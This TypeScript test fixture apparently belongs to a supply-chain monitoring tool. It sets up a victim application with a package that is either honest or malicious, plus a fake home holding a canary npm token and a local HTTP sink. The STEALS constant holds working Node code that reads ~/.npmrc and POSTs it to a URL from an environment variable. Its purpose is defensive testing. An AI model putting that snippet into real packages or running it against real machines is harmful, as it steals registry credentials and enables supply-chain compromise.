import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { mkdirSync, readFileSync, symlinkSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { AppFolder } from './app-folder.ts';

export const repository = join(import.meta.dirname, '../..');

export interface Ran {
  readonly code: number | null;
  readonly signal: NodeJS.Signals | null;
  readonly stdout: string;
  readonly stderr: string;
}

/** One finding as `--findings` has it. */
export interface FindingLine {
  readonly id: string;
  readonly level: string;
  readonly pattern: string;
  readonly reason: string;
  readonly package: { readonly name: string; readonly version: string };
  readonly chain: readonly string[];
  readonly trait: string;
  readonly voltage: number;
  readonly rule: { readonly name: string; readonly reference: readonly string[] };
  readonly blocked?: boolean;
  readonly file?: string;
  readonly line?: number;
  readonly tool?: string;
  readonly agent?: string;
  readonly conversation?: string;
  readonly traceId?: string;
  readonly spanId?: string;
}

/** Reads a credential of the fake home, then posts it: what a bad version does, inertly. */
export const STEALS = `
const fs = require('node:fs'), http = require('node:http'), os = require('node:os'), path = require('node:path');
exports.label = (text) => text.toUpperCase();
exports.act = () => new Promise((done) => {
  const secret = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
  const request = http.request(process.env.SINK, { method: 'POST' }, (response) => response.resume().on('end', done));
  request.on('error', done);
  request.end(secret);
});`;

/** The same package before it went bad. */
export const HONEST = `
exports.label = (text) => text.toUpperCase();
exports.act = async () => {};`;

/**
 * An application in a folder of its own, with a package `labels` that is honest (1.0.0) or steals (1.0.1), a fake home
 * with a canary, and a loopback sink. The repository's own packages are linked into its node_modules.
 */
export class VictimApp implements AsyncDisposable {
  readonly folder = new AppFolder();
  readonly home: string;
  readonly findingsFile: string;
  readonly received: string[] = [];
  private readonly sink: Server;
  sinkUrl = '';

  private constructor() {
    this.folder.write('app/package.json', '{"name":"victim","version":"1.0.0"}');
    this.home = this.folder.path('home');
    this.folder.write('home/.npmrc', '//registry.example/:_authToken=canary-0123456789\n');
    this.findingsFile = this.folder.path('findings.jsonl');
    mkdirSync(this.folder.path('app/node_modules'), { recursive: true });
    symlinkSync(join(repository, 'node_modules/@opentelemetry'), this.folder.path('app/node_modules/@opentelemetry'));
    symlinkSync(repository, this.folder.path('app/node_modules/diogenesis-otel'));
    this.labels('1.0.1', STEALS);
    this.sink = createServer((request, response) => {
      let body = '';
      request.on('data', (chunk) => {
        body += chunk;
      });
      request.on('end', () => {
        this.received.push(body);
        response.end();
      });
    });
  }

  static async create(): Promise<VictimApp> {
    const app = new VictimApp();
    app.sink.listen(0, '127.0.0.1');
    await once(app.sink, 'listening');
    app.sinkUrl = `http://127.0.0.1:${(app.sink.address() as AddressInfo).port}/`;
    return app;
  }

  /** Installs a version of the package. */
  labels(version: string, main: string): void {
    this.folder.package('labels', version, main, {}, 'app/node_modules/labels');
  }

  write(relative: string, content: string): string {
    return this.folder.write(`app/${relative}`, content);
  }

  /** Runs `node ARGS` in the application's folder. */
  async run(args: readonly string[], env: NodeJS.ProcessEnv = {}): Promise<Ran> {
    const child = spawn(process.execPath, args, {
      cwd: this.folder.path('app'),
      env: {
        PATH: process.env.PATH,
        HOME: this.home,
        SINK: this.sinkUrl,
        DIOGENESIS_FINDINGS: this.findingsFile,
        ...env,
      },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    const out = { stdout: '', stderr: '' };
    for (const name of ['stdout', 'stderr'] as const) {
      child[name].setEncoding('utf8').on('data', (chunk: string) => {
        out[name] += chunk;
      });
    }
    const [code, signal] = (await once(child, 'close')) as [number | null, NodeJS.Signals | null];
    return { code, signal, ...out };
  }

  findings(file = this.findingsFile): FindingLine[] {
    let text: string;
    try {
      text = readFileSync(file, 'utf8');
    } catch {
      return [];
    }
    return text
      .split('\n')
      .filter((line) => line !== '')
      .map((line) => JSON.parse(line) as FindingLine);
  }

  async [Symbol.asyncDispose](): Promise<void> {
    this.sink.closeAllConnections();
    this.sink.close();
    await once(this.sink, 'close');
    this.folder[Symbol.dispose]();
  }
}
